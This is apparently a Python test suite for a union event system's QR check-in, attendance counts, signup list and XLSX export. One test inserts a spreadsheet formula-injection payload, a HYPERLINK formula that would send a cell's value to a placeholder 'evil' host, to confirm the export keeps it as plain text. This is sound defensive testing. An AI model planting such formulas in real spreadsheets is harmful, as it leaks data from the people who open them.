"""Check-in by signed QR code, attendance counts, the officers' signup list and its XLSX export."""

from __future__ import annotations

import io
from concurrent.futures import ThreadPoolExecutor
from datetime import datetime, timedelta, timezone

import pytest
import requests
import time_machine
from itsdangerous import URLSafeSerializer
from openpyxl import load_workbook

from app.services.events import checkin
from models import SignupStatus, StaffStatus
from tests.conftest import LiveServer
from tests.events_support import create_event, signups_of
from tests.helpers import bearer, error_code


@pytest.fixture
def officer(make_staff, grant, token_for):
    staff_id = make_staff(employee_no="OFF01", name="工会干事")
    grant(staff_id, "union_officer")
    return token_for(staff_id)


def sign_up(client, event_id: int, token: str, answers: dict | None = None) -> dict:
    resp = client.post(f"/api/v1/events/{event_id}/signup", json={"answers": answers or {}}, headers=bearer(token))
    assert resp.status_code == 200, resp.json
    return resp.json


def scan(client, officer: str, event_id: int, code: str):
    return client.post(f"/api/v1/officer/events/{event_id}/checkin", json={"code": code}, headers=bearer(officer))


def starting_soon(client, officer: str, **overrides) -> int:
    """An event that starts in an hour: check-in is open (from two hours before the start)."""
    now = datetime.now(timezone.utc)
    return create_event(client, officer, signup_closes_at=(now + timedelta(minutes=30)).isoformat(),
                        starts_at=(now + timedelta(hours=1)).isoformat(), ends_at=(now + timedelta(hours=3)).isoformat(),
                        **overrides)


def counts(client, officer: str, event_id: int) -> dict:
    return client.get(f"/api/v1/officer/events/{event_id}", headers=bearer(officer)).json["counts"]


def test_confirmed_signup_checks_in_once_and_a_second_scan_is_harmless(client, officer, make_staff, token_for):
    event_id = starting_soon(client, officer)
    token = token_for(make_staff(name="张老师"))
    code = sign_up(client, event_id, token)["checkin_code"]
    first = scan(client, officer, event_id, code)
    assert (first.status_code, first.json["first_time"], first.json["message"]) == (200, True, "张老师 签到成功")
    second = scan(client, officer, event_id, code)
    assert (second.status_code, second.json["first_time"]) == (200, False)
    assert second.json["checked_in_at"] == first.json["checked_in_at"]
    assert counts(client, officer, event_id) == {"confirmed": 1, "waitlisted": 0, "cancelled": 0, "attended": 1}
    resp = client.post(f"/api/v1/events/{event_id}/cancel", headers=bearer(token))
    assert error_code(resp) == "already_checked_in"


def test_two_officers_scanning_at_once_count_one_attendance(app, officer, make_staff, token_for, grant):
    second_officer = make_staff(employee_no="OFF02")
    grant(second_officer, "union_officer")
    tokens = [officer, token_for(second_officer)] * 4
    server = LiveServer(app).start()
    try:
        event_id = starting_soon(app.test_client(), officer)
        code = sign_up(app.test_client(), event_id, token_for(make_staff()))["checkin_code"]
        with ThreadPoolExecutor(8) as pool:
            replies = list(pool.map(lambda t: requests.post(
                f"{server.url}/api/v1/officer/events/{event_id}/checkin", json={"code": code}, headers=bearer(t),
                timeout=30).json(), tokens))
    finally:
        server.stop()
    assert sorted(r["first_time"] for r in replies) == [False] * 7 + [True]


def test_forged_or_foreign_codes_are_refused(app, client, officer, make_staff, token_for):
    event_id, other_event = starting_soon(client, officer), starting_soon(client, officer, title="乒乓球赛")
    code = sign_up(client, event_id, token_for(make_staff()))["checkin_code"]
    assert error_code(scan(client, officer, event_id, code[:-2] + "xx")) == "invalid_checkin_code"
    forged = URLSafeSerializer("not-our-secret", salt=checkin.SALT).dumps([event_id, 1, 1])
    assert error_code(scan(client, officer, event_id, forged)) == "invalid_checkin_code"
    assert error_code(scan(client, officer, other_event, code)) == "checkin_wrong_event"


def test_waitlisted_and_cancelled_signups_cannot_check_in(app, client, officer, make_staff, token_for):
    event_id = starting_soon(client, officer, capacity=1)
    first, second = token_for(make_staff()), token_for(make_staff())
    code = sign_up(client, event_id, first)["checkin_code"]
    assert sign_up(client, event_id, second)["checkin_code"] is None
    waiting = next(s for s in signups_of(app, event_id) if s.status is SignupStatus.WAITLISTED)
    with app.app_context():       # a validly signed code for the waitlisted signup, as if minted by us
        signed = URLSafeSerializer(app.config["SU"].app.secret_key, salt=checkin.SALT).dumps(
            [event_id, waiting.id, waiting.sequence])
    assert error_code(scan(client, officer, event_id, signed)) == "checkin_not_confirmed"
    client.post(f"/api/v1/events/{event_id}/cancel", headers=bearer(first))
    assert error_code(scan(client, officer, event_id, code)) == "checkin_not_confirmed"
    # the promoted person's own code works
    promoted_code = client.get(f"/api/v1/events/{event_id}", headers=bearer(second)).json["my_signup"]["checkin_code"]
    assert scan(client, officer, event_id, promoted_code).json["first_time"] is True
    # signing up again gives a new code; the one from before the cancellation stays dead
    again = sign_up(client, event_id, first)
    assert again["status"] == "waitlisted" and again["checkin_code"] is None


def test_code_from_before_a_cancellation_is_refused_after_signing_up_again(client, officer, make_staff, token_for):
    event_id = starting_soon(client, officer, capacity=5)
    token = token_for(make_staff())
    old_code = sign_up(client, event_id, token)["checkin_code"]
    client.post(f"/api/v1/events/{event_id}/cancel", headers=bearer(token))
    new_code = sign_up(client, event_id, token)["checkin_code"]
    assert new_code != old_code
    assert error_code(scan(client, officer, event_id, old_code)) == "checkin_not_confirmed"
    assert scan(client, officer, event_id, new_code).json["first_time"] is True


def test_signup_list_and_xlsx_export_cell_by_cell(app, client, officer, make_staff, token_for, grant):
    questions = [{"key": "size", "label": "T恤尺码", "kind": "choice", "required": True, "options": ["M", "L"]},
                 {"key": "team", "label": "参赛队伍", "kind": "text"}]
    event_id = starting_soon(client, officer, capacity=1, questions=questions, title="趣味运动会")
    wang = token_for(make_staff(employee_no="00123", name="王芳", sub_union="外语分工会", department="外国语学院"))
    li = token_for(make_staff(employee_no="00456", name="李强", sub_union="数学分工会", department="数学学院"))
    make_staff(employee_no="00789", name="赵老师", sub_union="离退休分工会", status=StaffStatus.RETIRED)
    code = sign_up(client, event_id, wang, {"size": "M", "team": "一队"})["checkin_code"]
    sign_up(client, event_id, li, {"size": "L"})
    client.post(f"/api/v1/officer/events/{event_id}/signups", json={"employee_no": "00789", "answers": {"size": "L"}},
                headers=bearer(officer))
    scan(client, officer, event_id, code)

    listing = client.get(f"/api/v1/officer/events/{event_id}/signups", headers=bearer(officer)).json
    assert listing["counts"] == {"confirmed": 1, "waitlisted": 2, "cancelled": 0, "attended": 1}
    assert [(i["name"], i["status"], i["position"]) for i in listing["items"]] == \
        [("王芳", "confirmed", None), ("李强", "waitlisted", 1), ("赵老师", "waitlisted", 2)]
    only_waiting = client.get(f"/api/v1/officer/events/{event_id}/signups?status=waitlisted", headers=bearer(officer))
    assert [i["name"] for i in only_waiting.json["items"]] == ["李强", "赵老师"]

    resp = client.get(f"/api/v1/officer/events/{event_id}/signups.xlsx", headers=bearer(officer))
    assert resp.status_code == 200
    assert resp.mimetype == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert "attachment" in resp.headers["Content-Disposition"]
    sheet = load_workbook(io.BytesIO(resp.data)).active
    rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert sheet.title == "报名名单"
    assert rows[0] == ["序号", "工号", "姓名", "分工会", "部门", "报名状态", "候补顺位", "报名时间", "签到时间",
                       "代报名人", "T恤尺码", "参赛队伍"]
    assert len(rows) == 4
    wang_row, li_row, zhao_row = rows[1:]
    assert wang_row[:7] == [1, "00123", "王芳", "外语分工会", "外国语学院", "报名成功", None]
    assert wang_row[9:] == [None, "M", "一队"]
    assert li_row[:7] == [2, "00456", "李强", "数学分工会", "数学学院", "候补", 1]
    assert li_row[8:] == [None, None, "L", None]
    assert zhao_row[:7] == [3, "00789", "赵老师", "离退休分工会", None, "候补", 2]
    assert zhao_row[9:] == ["工会干事", "L", None]
    today = datetime.now(timezone(timedelta(hours=8))).strftime("%Y-%m-%d")
    assert wang_row[7].startswith(today[:4]) and len(wang_row[7]) == 16          # local "YYYY-MM-DD HH:MM"
    assert wang_row[8] and len(wang_row[8]) == 16 and rows[2][8] is None
    assert str(sheet["B2"].value) == "00123"                                      # 工号 keeps its leading zeros


def test_typed_answers_and_labels_never_become_formulas_in_the_export(app, client, officer, make_staff, token_for):
    label = '=HYPERLINK("http://evil/","尺码")'
    questions = [{"key": "team", "label": "参赛队伍", "kind": "text"}, {"key": "size", "label": label, "kind": "text"}]
    event_id = create_event(client, officer, capacity=5, questions=questions, title="读书节")
    sign_up(client, event_id, token_for(make_staff()), {"team": '=HYPERLINK("http://evil/?"&B3,"点击")'})
    resp = client.get(f"/api/v1/officer/events/{event_id}/signups.xlsx", headers=bearer(officer))
    sheet = load_workbook(io.BytesIO(resp.data)).active
    answer, header = sheet.cell(row=2, column=11), sheet.cell(row=1, column=12)
    assert (answer.data_type, header.data_type) == ("s", "s")
    assert answer.value == '=HYPERLINK("http://evil/?"&B3,"点击")'       # exactly the text typed, as text
    assert header.value == label


def test_check_in_is_open_only_around_the_event(client, officer, make_staff, token_for):
    event_id = create_event(client, officer)                      # starts in two days
    code = sign_up(client, event_id, token_for(make_staff()))["checkin_code"]
    early = scan(client, officer, event_id, code)
    assert (early.status_code, error_code(early)) == (409, "checkin_not_open")
    starts = datetime.fromisoformat(client.get(f"/api/v1/officer/events/{event_id}",
                                               headers=bearer(officer)).json["starts_at"])
    with time_machine.travel(starts + timedelta(days=1)):        # the next day: too late
        assert error_code(scan(client, officer, event_id, code)) == "checkin_not_open"
    with time_machine.travel(starts - timedelta(minutes=30)):
        assert scan(client, officer, event_id, code).json["first_time"] is True
